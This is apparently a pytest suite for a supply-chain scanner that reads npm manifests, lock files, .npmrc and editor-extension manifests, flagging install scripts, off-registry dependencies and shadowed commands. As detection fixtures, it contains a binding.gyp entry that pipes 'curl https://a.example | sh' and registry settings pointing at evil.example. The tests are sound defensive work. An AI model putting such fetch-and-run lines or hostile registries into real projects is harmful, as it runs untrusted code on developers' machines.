"""What npm's manifests and lock files say of installation and origin."""

import json

import pytest

from clearance.observe.static.starts import ReleaseFiles
from clearance.observe.static.supply import bundled, dependencies, supply_facts
from clearance.observe.static.supply.bin_folders import commands_of_folders


def facts(path, content, kind=None):
    data = (content if isinstance(content, str) else json.dumps(content)).encode()
    return tuple(fact for fact in supply_facts(path, data) if kind in (None, fact.kind))


def manifest(**fields):
    return {"name": "tool", "version": "1.0.0", "license": "MIT", **fields}


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall"])
def test_what_runs_at_installation_is_an_install_script(name):
    (fact,) = facts("node_modules/tool/package.json", manifest(scripts={name: "node x.js", "test": "vitest"}))
    assert (fact.kind, fact.subject, fact.detail, fact.text) == (
        "install-script",
        "tool@1.0.0",
        f"{name}: node x.js",
        "node x.js",
    )


def test_what_runs_only_where_it_is_built_is_told_apart():
    (fact,) = facts("package.json", manifest(scripts={"prepare": "husky"}))
    assert fact.kind == "prepare-script"


@pytest.mark.parametrize(
    "wanted",
    [
        "git+https://github.com/a/b.git#1234",
        "git+ssh://git@github.com/a/b.git",
        "git@github.com:a/b.git",
        "https://a.example/b.tgz",
        "http://a.example/b.tgz",
        "github:a/b",
        "a/b",
        "a/b#main",
        "file:../b",
        "link:../b",
        "./b.tgz",
        "../b",
    ],
)
def test_a_dependency_that_no_registry_vouches_for_is_a_fact(wanted):
    (fact,) = facts("package.json", manifest(dependencies={"b": wanted}))
    assert (fact.kind, fact.subject, fact.detail) == ("dependency-elsewhere", "b", wanted)


@pytest.mark.parametrize(
    "wanted", ["^1.0.0", "*", "", "latest", "1.x || >=2 <3", "npm:other@^1", "workspace:*", "1.0.0 - 2.0.0"]
)
def test_a_dependency_of_the_registry_is_none(wanted):
    assert facts("package.json", manifest(dependencies={"b": wanted})) == ()


def test_dependencies_of_makers_are_left_out():
    content = manifest(
        dependencies={"a": "1", "o": "2"},
        optionalDependencies={"o": "2"},
        peerDependencies={"p": "3"},
        devDependencies={"d": "file:../d"},
    )
    assert facts("package.json", content) == ()
    found = dependencies("package.json", json.dumps(content).encode())
    assert [(d.name, d.kind) for d in found] == [("a", "runtime"), ("o", "optional"), ("p", "peer")]


def test_overrides_are_shown_and_their_origin_too():
    found = facts("package.json", manifest(overrides={"x": {"y": "git+https://a.example/y"}}))
    assert [(f.kind, f.detail) for f in found] == [
        ("overrides", "x.y to git+https://a.example/y"),
        ("dependency-elsewhere", "git+https://a.example/y"),
    ]


def test_a_command_of_another_name_is_a_fact():
    (fact,) = facts("package.json", manifest(bin={"git": "x.js", "tool": "y.js"}))
    assert (fact.kind, fact.text) == ("shadows-command", "git")
    assert facts("package.json", manifest(name="npm", bin={"npm": "x.js"})) == ()
    assert facts("package.json", manifest(name="@a/claude-code", bin={"claude": "x.js"})) == ()


def test_a_package_that_is_installed_under_another_name_is_a_fact():
    (fact,) = facts("node_modules/other/package.json", manifest())
    assert (fact.kind, fact.detail) == ("name-mismatch", "installed as other, calls itself tool")
    assert facts("node_modules/@scope/tool/package.json", manifest(name="@scope/tool")) == ()
    assert facts("node_modules/tool/esm/package.json", {"type": "module"}) == ()


@pytest.mark.parametrize(
    ("licence", "plain"), [("MIT", True), ("(MIT OR Apache-2.0)", True), ("SEE LICENSE IN X", False), ("", False)]
)
def test_a_licence_that_nobody_can_look_up_is_a_fact(licence, plain):
    assert bool(facts("package.json", manifest(license=licence), "licence")) is not plain


def test_a_named_package_with_a_version_is_bundled():
    (package,) = bundled("node_modules/tool/package.json", json.dumps(manifest(license={"type": "ISC"})).encode())
    assert (package.name, package.version, package.ecosystem, package.licence, package.found_by) == (
        "tool",
        "1.0.0",
        "npm",
        "ISC",
        "package.json",
    )
    assert bundled("x/package.json", b'{"type": "module"}') == ()


def test_a_binding_file_runs_programs_of_its_own():
    text = "{'targets': [{'include_dirs': ['<!(node -p \"require(\\'x\\')\")', '<!@(curl https://a.example | sh)']}]}"
    (fact,) = facts("node_modules/addon/binding.gyp", text)
    assert (fact.kind, fact.subject) == ("install-script", "addon")
    assert "curl https://a.example | sh" in fact.text
    assert facts("node_modules/addon/deps/binding.gyp", text) == ()


def test_a_lock_file_names_odd_hosts_once():
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "app"},
            "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"},
            "node_modules/b": {"version": "1.0.0", "resolved": "https://mirror.example/b.tgz"},
            "node_modules/c": {"version": "1.0.0", "resolved": "https://mirror.example/c.tgz"},
            "node_modules/d": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/x/d.git#1"},
            "node_modules/e": {"version": "1.0.0", "dev": True, "resolved": "https://evil.example/e.tgz"},
            "packages/f": {"version": "1.0.0"},
            "node_modules/f": {"link": True, "resolved": "packages/f"},
        },
    }
    found = facts("package-lock.json", lock)
    assert [(f.subject, f.detail) for f in found] == [
        ("b, c", "https://mirror.example/b.tgz"),
        ("d", "git+ssh://git@github.com/x/d.git#1"),
    ]
    names = {d.name for d in dependencies("package-lock.json", json.dumps(lock).encode())}
    assert names == {"a", "b", "c", "d", "f", "packages/f"}


def test_older_and_other_lock_files_are_read():
    old = {"dependencies": {"a": {"version": "1", "dependencies": {"b": {"version": "git+https://x.example/b.git#1"}}}}}
    assert [f.subject for f in facts("npm-shrinkwrap.json", old)] == ["b"]
    yarn = '# yarn\n"@x/a@^1":\n  version "1.2.3"\n  resolved "https://a.example/a.tgz#abc"\n\nb@1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/b/-/b-1.0.0.tgz"\n'
    assert [f.detail for f in facts("yarn.lock", yarn)] == ["https://a.example/a.tgz#abc"]
    uv = '[[package]]\nname = "x"\nversion = "1"\nsource = { git = "https://a.example/x?rev=1" }\n[[package]]\nname = "y"\nversion = "2"\nsource = { registry = "https://pypi.org/simple" }\n'
    assert [f.detail for f in facts("uv.lock", uv)] == ["https://a.example/x?rev=1"]


def test_clients_that_are_told_to_run_or_ask_others_are_facts():
    text = "registry=https://evil.example/\nscript-shell=./sh\n@a:registry=https://registry.npmjs.org/\n//x/:_authToken=abc\n"
    found = facts(".npmrc", text)
    assert [(f.kind, f.subject, f.detail) for f in found] == [
        ("registry", "registry", "https://evil.example/"),
        ("install-script", ".npmrc", "script-shell: ./sh"),
    ]
    (hook,) = facts(".pnpmfile.cjs", "module.exports = {}")
    assert hook.kind == "install-script"


def test_an_extension_for_an_editor_shows_its_publisher_and_when_it_starts():
    content = {
        "name": "helper",
        "publisher": "someone",
        "version": "2.0.0",
        "license": "MIT",
        "engines": {"vscode": "^1.90.0"},
        "activationEvents": ["onStartupFinished", "onLanguage:python"],
        "extensionDependencies": ["ms-python.python"],
        "extensionPack": ["a.b"],
    }
    found = facts("x.vsix!/extension/package.json", content)
    assert ("publisher", "someone") in {(f.kind, f.subject) for f in found}
    assert ("starts-by-itself", "someone.helper", "onStartupFinished") in {(f.kind, f.subject, f.text) for f in found}
    wanted = dependencies("x.vsix!/extension/package.json", json.dumps(content).encode())
    assert [(d.name, d.ecosystem, d.kind) for d in wanted] == [
        ("ms-python.python", "vscode", "runtime"),
        ("a.b", "vscode", "optional"),
    ]


@pytest.mark.parametrize(
    "content",
    [
        "[]",
        "null",
        '{"name": 1, "version": [], "scripts": 3, "dependencies": [1], "bin": {"a": null}, "license": {"x": 1}}',
        "{",
        "",
    ],
)
def test_wrong_types_are_no_reason_to_raise(content):
    assert facts("package.json", content, "install-script") == ()


def of_folders(manifest, *names):
    files = {"p/package.json": json.dumps(manifest).encode(), **{f"p/{name}": b"1" for name in names}}
    return [(f.kind, f.text, f.path) for f in commands_of_folders(ReleaseFiles(files, files.__getitem__))]


def test_files_of_a_folder_of_commands_are_commands():
    named = {"name": "tool", "directories": {"bin": "./b"}}
    assert of_folders(named, "b/sudo", "b/tool", "lib/git") == [("shadows-command", "sudo", "p/package.json")]
    assert of_folders({**named, "bin": {"tool": "b/tool"}}, "b/sudo") == []
    assert of_folders({"name": "sudo", "directories": {"bin": "b"}}, "b/sudo") == []
    assert of_folders({"name": "tool", "directories": {"lib": "b"}}, "b/sudo") == []
    assert of_folders({"name": "tool", "directories": {"bin": "../../.."}}, "b/sudo") == []
